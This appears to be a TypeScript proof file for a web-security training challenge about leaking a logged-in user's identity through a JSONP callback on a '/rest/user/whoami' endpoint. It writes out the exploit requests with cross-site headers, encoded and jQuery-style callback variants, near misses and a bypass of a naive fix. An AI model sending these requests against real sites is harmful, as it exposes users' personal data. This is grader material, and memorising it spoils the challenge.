import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const ask = (attacker: Attacker, query: string, headers: Readonly<Record<string, string>> = {}) =>
  attacker.get(`/rest/user/whoami${query}`, { headers })

/** Headers that a browser sends when a page of another site loads the URL as a script. */
const CROSS_SITE_HEADERS = { 'sec-fetch-site': 'same-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'script' }

const asCustomer = (query: string) => async (attacker: Attacker) => {
  await attacker.becomeCustomer()
  await ask(attacker, query)
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // A logged-in customer opens another site's page that loads the endpoint as a script.
    await attacker.becomeCustomer()
    await ask(attacker, '?callback=tell', CROSS_SITE_HEADERS)
  },
  spellings: {
    'as write-ups have it, in the address bar': (attacker) => ask(attacker, '?callback=func'),
    'as a customer, in the address bar': asCustomer('?callback=func'),
    'with a method of an object': asCustomer('?callback=window.top.tell'),
    'with a name as jQuery makes it': asCustomer('?callback=jQuery36009876543210_1700000000000&_=1700000000001'),
    'with fields of one’s choice': asCustomer('?fields=email&callback=tell'),
    'with the name encoded': asCustomer('?callback=%74%65%6c%6c'),
  },
  nearMisses: {
    'the call as the shop’s pages make it': asCustomer(''),
    'a callback without a name': asCustomer('?callback='),
    'a callback that is no name of a function': asCustomer('?callback=%20%2B%20'),
    'another word for a callback': asCustomer('?jsonp=tell&cb=tell'),
    'the word in capitals': asCustomer('?CALLBACK=tell'),
    'the e-mail as JSON': asCustomer('?fields=email'),
    'a callback for the products': (attacker) => attacker.get('/rest/products/search?q=&callback=tell'),
    'the name in the body': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.post('/rest/user/whoami', { callback: 'tell' })
    },
    'asking for the headers of the script alone': async (attacker) => {
      await attacker.becomeCustomer()
      await attacker.get('/rest/user/whoami', { headers: { accept: 'text/javascript' } })
    },
  },
  bypasses: {
    'call-our-own-function-only': async (attacker) => {
      await attacker.becomeCustomer()
      await ask(attacker, '?callback=showVisitor', CROSS_SITE_HEADERS)
    },
  },
})
